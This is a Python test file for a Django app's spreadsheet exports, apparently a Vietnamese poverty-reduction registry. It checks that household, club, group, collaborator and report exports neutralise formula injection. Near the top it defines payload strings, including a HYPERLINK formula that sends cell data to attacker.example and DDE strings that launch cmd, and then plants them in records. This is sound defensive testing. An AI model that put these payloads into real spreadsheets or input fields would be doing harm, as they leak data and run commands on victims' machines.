"""Every .xlsx and .csv the system writes shows hostile names as text, never as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

from giamngheo.clubs.models import Club
from giamngheo.collaborators.models import Collaborator
from giamngheo.core.periods import PeriodKind
from giamngheo.core.spreadsheets import neutralise, safe_row
from giamngheo.geo.models import Level, Unit
from giamngheo.groups.models import SelfManagedGroup as Group
from giamngheo.households.models import Household
from giamngheo.reports import periodic
from giamngheo.reviews.models import AnnualReview

HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+SUM(1,2)"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"


@pytest.mark.parametrize(
    "value, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        (PLUS, "'" + PLUS),
        (AT, "'" + AT),
        (MINUS, "'" + MINUS),
        (TAB, "'" + TAB),
        ("\r=1", "'\r=1"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("+84 905 123 456", "+84 905 123 456"),
        ("-5", "-5"),
        ("-", "'-"),
        ("", ""),
        (None, None),
        (12, 12),
        (-3.5, -3.5),
    ],
)
def test_formula_like_text_is_marked_as_text(value, written):
    assert neutralise(value) == written


def test_a_row_is_neutralised_cell_by_cell():
    assert safe_row(["A", DDE, 3]) == ["A", "'" + DDE, 3]


def _cells(response):
    assert response.status_code == 200, response.status_code
    content = getattr(response, "streaming_content", None)
    content = b"".join(content) if content is not None else response.content
    workbook = load_workbook(io.BytesIO(content))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_no_formula(response, hostile):
    cells = _cells(response)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula was written"
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + hostile in values, f"{hostile!r} is not in the export as text"


@pytest.fixture
def hostile(demo):
    """Demo names replaced by formulas, as an attacker with a commune account could type them."""
    commune = demo.commune_a
    village = Unit.objects.filter(parent=commune, level=Level.VILLAGE).order_by("pk").first()
    Unit.objects.filter(pk=village.pk).update(name=DDE)
    household = Household.objects.filter(commune=commune).order_by("pk").first()
    Household.objects.filter(pk=household.pk).update(head_name=HYPERLINK)
    Club.objects.filter(pk__in=Club.objects.order_by("pk").values("pk")[:1]).update(name=PLUS)
    Collaborator.objects.update(full_name=AT)
    Group.objects.update(name=MINUS)
    return {"commune": commune, "village": village, "household": household}


def test_household_export(hostile, login, demo):
    """The register's export is written by the worker's code (core.exports) and downloaded."""
    from giamngheo.core import exports
    from giamngheo.core.models import ExportJob

    client = login(demo.users["canbo.tumorong"])
    assert client.post(reverse("households:household_export")).status_code == 302
    job = ExportJob.objects.get()
    exports.build(job)
    download = client.get(reverse("core:export_download", args=[job.pk]))
    _assert_no_formula(download, HYPERLINK)


def test_club_export(hostile, login, demo):
    _assert_no_formula(login(demo.users["admin"]).get(reverse("clubs:club_export")), PLUS)


def test_group_export(hostile, login, demo):
    _assert_no_formula(login(demo.users["admin"]).get(reverse("groups:group_export")), MINUS)


def test_collaborator_allowance_sheet(hostile, login, demo):
    client = login(demo.users["admin"])
    period = next(
        p
        for p in ("2026-11", "2026-10", "2026-12", "2026-09", "2026-01")
        if escape(AT)
        in client.get(reverse("collaborators:allowances") + f"?thang={p}").content.decode()
    )
    _assert_no_formula(client.get(reverse("collaborators:allowances_export", args=[period])), AT)


def test_collaborator_statistics_and_unit_exports(hostile, login, demo):
    Unit.objects.filter(pk=demo.commune_a.pk).update(name=DDE)
    client = login(demo.users["admin"])
    _assert_no_formula(client.get(reverse("collaborators:statistics_export")), DDE)
    _assert_no_formula(client.get(reverse("geo:commune_export")), DDE)
    _assert_no_formula(client.get("/tro-giup/tong-hop.xlsx?tu=2026-01-01&den=2026-12-31"), DDE)


def test_review_posting_list_and_summary(hostile, login, demo):
    review = AnnualReview.objects.filter(commune=hostile["commune"]).first()
    review.entries.filter(household=hostile["household"]).exists() or review.entries.create(
        household=hostile["household"],
        village_id=hostile["household"].village_id,
        reason=review.entries.first().reason,
        previous_status=hostile["household"].status,
    )
    client = login(demo.users["canbo.tumorong"])
    Household.objects.filter(pk__in=review.entries.values("household")).update(head_name=HYPERLINK)
    Unit.objects.filter(pk__in=review.entries.values("village")).update(name=DDE)
    _assert_no_formula(
        client.get(reverse("review_prints:posting_xlsx", args=[review.pk])), HYPERLINK
    )
    _assert_no_formula(client.get(reverse("review_prints:summary_xlsx", args=[review.pk])), DDE)


def test_group_report_with_typed_text(hostile, login, demo):
    office = demo.users["vanphong.quangngai"]
    template = periodic.define_template(
        office=demo.province, name=DDE, period_kind=PeriodKind.QUARTER,
        measures=["groups_formed"], texts=["Khó khăn"], by=office,
    )  # fmt: skip
    client = login(demo.users["canbo.mangden"])
    url = reverse("periodic:report", args=[template.pk, "23473", "2026-q3"])
    text_field = template.fields.get(measure="")
    client.post(url, {f"line_{text_field.pk}": HYPERLINK, "version": ""})
    response = client.get(reverse("periodic:report_export", args=[template.pk, "23473", "2026-q3"]))
    _assert_no_formula(response, HYPERLINK)
    _assert_no_formula(response, DDE)


def test_import_templates(login, demo):
    client = login(demo.users["canbo.tumorong"])
    xlsx = client.get(reverse("households:import_template", args=["xlsx"]))
    assert not [c for c in _cells(xlsx) if c.data_type == "f"]
    text = client.get(reverse("households:import_template", args=["csv"])).content.decode()
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for value in row:
            assert neutralise(value) == value or value.startswith("'")
    template = client.get(reverse("geo:village_template", args=[demo.commune_a.code]))
    assert not [c for c in _cells(template) if c.data_type == "f"]
